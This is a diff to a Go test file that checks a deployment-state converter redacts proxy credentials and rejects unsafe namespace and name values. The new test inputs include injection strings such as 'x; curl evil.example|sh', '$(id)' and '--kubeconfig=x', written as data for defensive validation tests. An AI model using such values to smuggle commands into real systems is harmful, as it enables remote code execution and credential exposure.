@@ -1,6 +1,7 @@
 package link_test
 
 import (
+	"maps"
 	"strings"
 	"testing"
 	"time"
@@ -17,13 +18,18 @@ func TestDeploymentCrosses(t *testing.T) {
 	want := rollout.State{
 		Kind: rollout.KindStatefulSet, Version: "1.0", Revision: 3, Namespace: "berm", Name: "berm-runner", SelfUpdate: true, Images: []string{"a", "b"},
 		Installed: rollout.Spec{
-			Image: "a:1", Env: map[string]string{"A": "b"}, Args: []string{"--verbose"}, Resources: rollout.Resources{CPURequest: "1"}, NodeSelector: map[string]string{"a": "b"},
+			Image: "a:1", Env: map[string]string{"HTTPS_PROXY": "http://me:secret@proxy"}, Args: []string{"--verbose"}, Resources: rollout.Resources{CPURequest: "1"}, NodeSelector: map[string]string{"a": "b"},
 			Tolerations: []rollout.Toleration{{Key: "a"}}, Annotations: map[string]string{"c": "d"}, Labels: map[string]string{"e": "f"}, ServiceAccount: "s", ImagePullPolicy: "Always",
 		},
 		Image: "a:2", Gateway: "https://x", Trying: 4,
 		Problem: &rollout.Problem{Revision: 4, Reason: "R", Message: "m", Detail: "d", Hints: []string{"h"}, At: time.Unix(1, 2).UTC()},
 	}
-	if diff := cmp.Diff(want, link.DeploymentOf(link.DeploymentMessage(&want), "other")); diff != "" {
+	m := link.DeploymentMessage(&want)
+	if strings.Contains(m.GetInstalledJson(), "secret") || want.Installed.Env["HTTPS_PROXY"] != "http://me:secret@proxy" {
+		t.Errorf("%s %v", m.GetInstalledJson(), want.Installed.Env)
+	}
+	want.Installed.Env = map[string]string{"HTTPS_PROXY": ""}
+	if diff := cmp.Diff(want, link.DeploymentOf(m, "other")); diff != "" {
 		t.Error(diff)
 	}
 	w := rollout.Wanted{Revision: 5, Image: "a:3", Overrides: rollout.Overrides{Env: map[string]string{"A": "b"}, Scaling: rollout.Scaling{Replicas: 2}}}
@@ -42,6 +48,14 @@ func TestDeploymentOfAnotherRelease(t *testing.T) {
 	got := link.DeploymentOf(&linkv1.DeploymentState{Version: long, Revision: -7, Trying: -1, InstalledJson: `{"image":"` + long + `"}`, Images: make([]string, 1<<16)}, "")
 	if len(got.Version) > link.MaxText+8 || got.Revision != 0 || got.Trying != 0 || got.Installed.Image != "" || len(got.Images) > link.MaxList {
 		t.Errorf("%d %d %d %d", len(got.Version), got.Revision, len(got.Installed.Image), len(got.Images))
+	}
+	if got := link.DeploymentOf(&linkv1.DeploymentState{InstalledJson: `{"env":{"HTTPS_PROXY":"http://me:secret@proxy"}}`}, ""); !maps.Equal(got.Installed.Env, map[string]string{"HTTPS_PROXY": ""}) {
+		t.Errorf("%v", got.Installed.Env)
+	}
+	for _, names := range [][2]string{{"berm", "x; curl evil.example|sh"}, {"$(id)", "berm-runner"}, {"--kubeconfig=x", "berm-runner"}, {"berm", "-x"}} {
+		if got := link.DeploymentOf(&linkv1.DeploymentState{Namespace: names[0], Name: names[1]}, ""); got.Namespace != "" || got.Name != "" {
+			t.Errorf("%q comes to stand in commands", names)
+		}
 	}
 	if got := link.DeploymentOf(&linkv1.DeploymentState{InstalledJson: "{"}, ""); got.Installed.Image != "" {
 		t.Errorf("%+v", got)
